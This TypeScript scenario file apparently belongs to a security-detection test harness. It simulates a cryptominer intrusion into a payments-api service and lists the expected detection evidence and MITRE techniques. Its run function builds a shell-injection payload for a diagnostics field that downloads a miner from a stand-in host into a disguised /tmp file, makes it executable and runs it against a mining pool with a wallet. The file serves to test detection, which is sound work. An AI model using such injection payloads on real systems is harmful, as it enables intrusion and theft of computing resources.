// cryptominer (attack): a classic non-AI compromise. A shell injection in payments-api's diagnostics endpoint
// downloads a "miner" from downloads.example into /tmp, makes it executable, runs it, and it logs in to
// pool.mining.example:3333 and submits shares.
import { type Scenario } from './scenario-types.js';
import { callService } from './scenario-context.js';
import { serviceUrl } from '../workloads/workload-environment.js';

export const MINER_PATH = '/tmp/.kworker-cache';
export const MINER_WALLET = '48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD';

export const cryptominer: Scenario = {
  description: {
    name: 'cryptominer',
    tags: ['attack', 'non-ai', 'network'],
    description: 'A shell-injection request to payments-api /v1/diagnostics makes it download a miner from downloads.example, '
      + 'chmod +x and run it from /tmp; the miner connects to pool.mining.example:3333 (stratum) and burns CPU.',
    expected: {
      steps: [
        { action: 'payments-api runs a shell for the diagnostics request (injected command line)', actor: 'payments/payments-api', target: '/bin/sh', evidence: ['process.exec'] },
        { action: 'curl downloads the miner over plain HTTP', actor: 'payments/payments-api', target: 'downloads.example', evidence: ['process.exec', 'dns.query', 'net.connect', 'http.request'] },
        { action: 'chmod +x on the downloaded file', actor: 'payments/payments-api', target: MINER_PATH, evidence: ['process.exec'] },
        { action: 'the miner executes from /tmp', actor: 'payments/payments-api', target: MINER_PATH, evidence: ['process.exec'] },
        { action: 'the miner connects to the mining pool on 3333 and speaks stratum', actor: 'payments/payments-api', target: 'pool.mining.example:3333', evidence: ['dns.query', 'net.connect', 'net.close'] },
      ],
      entities: {
        pods: ['payments/payments-api'],
        tools: [],
        hosts: ['downloads.example', 'pool.mining.example'],
        files: [MINER_PATH],
        identities: ['system:serviceaccount:payments:payments-api'],
      },
      techniques: {
        mitreAttack: ['T1190', 'T1059.004', 'T1105', 'T1496'],
        atlas: [],
        owaspLlm: [],
        owaspAgentic: [],
      },
    },
  },
  async run(ctx) {
    const downloads = serviceUrl(ctx.env, 'downloads', 'http', '/tools/xmrig');
    const pool = ctx.env.address('pool');
    const injected = `localhost; curl -s -o ${MINER_PATH} ${downloads} && chmod +x ${MINER_PATH} && `
      + `${MINER_PATH} -o stratum+tcp://${pool.clientHost}:${pool.clientPort} -u ${MINER_WALLET} --seconds 3`;
    ctx.log(`payments-api: POST /v1/diagnostics with an injected command line`);
    const result = await callService(ctx.env, 'payments-api', 'POST', '/v1/diagnostics', { host: injected });
    if (result.status !== 200) throw new Error(`payments-api answered ${result.status}: ${JSON.stringify(result.body)}`);
    return { diagnostics: result.body };
  },
};
